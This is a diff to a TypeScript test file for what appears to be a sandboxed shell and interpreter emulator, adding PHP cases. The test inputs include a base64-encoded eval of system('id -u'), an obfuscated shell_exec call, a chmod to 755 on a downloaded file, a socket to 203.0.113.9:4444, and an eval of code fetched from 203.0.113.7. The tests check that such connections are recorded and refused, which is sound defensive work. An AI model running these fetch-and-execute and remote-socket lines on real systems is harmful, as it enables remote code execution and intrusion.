@@ -1,7 +1,9 @@
 import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { runShell } from '../../../../test/support/run-shell.ts';
+import { runPhp, runShell } from '../../../../test/support/run-shell.ts';
 import { effectsOf } from './script-effect.ts';
+
+const runGnu = (command: string): ReturnType<typeof runShell> => runShell('linux-gnu', command);
 
 describe('the interpreters', () => {
   it('tell where reverse shells would connect, and are refused', () => {
@@ -68,7 +70,50 @@ describe('the interpreters', () => {
     expect(run.captures.map(({ text }) => text)).toContain('dropped dropped ');
   });
 
-  it.each(['python3 -c', 'perl -e'])(
+  it.each([
+    [`php -r 'echo 7*191;'`, '1337'],
+    [`php -r 'eval(base64_decode("c3lzdGVtKCJpZCAtdSIpOw=="));'`, '0\n'],
+    [
+      `php -r '$f = "shell"."_exec"; echo $f("echo a"), \`echo b\`; foreach ($argv as $w) echo "$w ";' x y`,
+      'a\nb\nStandard input code x y ',
+    ],
+    [`printf 'a <?= 1+1 ?>\nb <?php if (true): ?>\n yes\n<?php endif; ?>\nend\n' | php`, 'a 2b  yes\nend\n'],
+    [
+      `printf '<?php\nfunction f($a) {\n  throw new Exception("bad");\n}\nf(1);\n' > /tmp/a.php; php /tmp/a.php`,
+      'PHP Fatal error:  Uncaught Exception: bad in /tmp/a.php:3\nStack trace:\n#0 /tmp/a.php(5): f()\n#1 {main}\n  thrown in /tmp/a.php on line 3\n',
+    ],
+    [
+      `php -r 'echo 1 1;'`,
+      'PHP Parse error:  syntax error, unexpected integer "1", expecting "," or ";" in Command line code on line 1\n',
+    ],
+    ['php /missing', 'Could not open input file: /missing\n'],
+    [
+      `printf '<?php echo 1 1;' > /tmp/b.php; php -l /tmp/b.php`,
+      'PHP Parse error:  syntax error, unexpected integer "1", expecting "," or ";" in /tmp/b.php on line 1\nErrors parsing /tmp/b.php\n',
+    ],
+    [
+      `php -d display_errors=1 -r 'echo $x;' 2>/dev/null`,
+      '\nWarning: Undefined variable $x in Command line code on line 1\n',
+    ],
+  ])('run %s', (command, output) => {
+    const run = runPhp(command);
+    expect(run.fault).toBeNull();
+    expect(run.output).toBe(output);
+  });
+
+  it('record what PHP would fetch and reach, and keep what it writes', () => {
+    const run = runPhp(
+      `php -r '$h = implode(".", ["203","0","113","8"]); copy("http://$h/b", "/tmp/b"); file_put_contents("/tmp/c", str_repeat("dropped ", 2)); chmod("/tmp/b", 0755); $s = fsockopen("203.0.113.9", 4444, $e, $m, 5); echo "$e $m\n"; eval(file_get_contents("http://203.0.113.7/p.txt"));'; ls /tmp/b; cat /tmp/c`,
+    );
+    expect(run.fault).toBeNull();
+    expect(run.urls).toEqual(expect.arrayContaining(['http://203.0.113.8/b', 'http://203.0.113.7/p.txt']));
+    expect(run.urls.join(' ')).toContain('203.0.113.9:4444');
+    expect(run.output).toContain('111 Connection refused\n');
+    expect(run.output).toMatch(/\/tmp\/b\ndropped dropped $/);
+    expect(run.captures.map(({ text }) => text)).toContain('dropped dropped ');
+  });
+
+  it.each(['python3 -c', 'perl -e', 'php -r'])(
     '%s: any text ends in an outcome, within the bounds of the shell',
     (call) => {
       const words = fc.constantFrom(
@@ -120,6 +165,19 @@ describe('the interpreters', () => {
         'try',
         'except',
         'yield',
+        '->',
+        '::',
+        '<<<E',
+        'function f($a) {',
+        'fn($a) =>',
+        '${',
+        '?>',
+        'new class',
+        'match($x)',
+        '`id`',
+        'static ',
+        '&$x',
+        '...',
         '\0',
         '\u00ff',
       );
@@ -130,7 +188,7 @@ describe('the interpreters', () => {
             fc.string({ maxLength: 60, unit: 'binary-ascii' }),
           ),
           (text) => {
-            const run = runShell('linux-gnu', `${call} '${text.replaceAll("'", `'\\''`)}'`);
+            const run = (call === 'php -r' ? runPhp : runGnu)(`${call} '${text.replaceAll("'", `'\\''`)}'`);
             expect(run.fault).toBeNull();
           },
         ),
@@ -142,6 +200,7 @@ describe('the interpreters', () => {
   it('end a script without end', () => {
     expect(runShell('linux-gnu', `python3 -c 'while True: pass'`).status).toBe(137);
     expect(runShell('linux-gnu', `perl -e '1 while 1'`).status).toBe(137);
+    expect(runPhp(`php -r 'while (1);'`).status).toBe(137);
     expect(runShell('linux-gnu', `python3 -c 'def f(): f()\nf()' 2>&1 | tail -1`).output).toContain(
       'RecursionError: maximum recursion depth exceeded',
     );
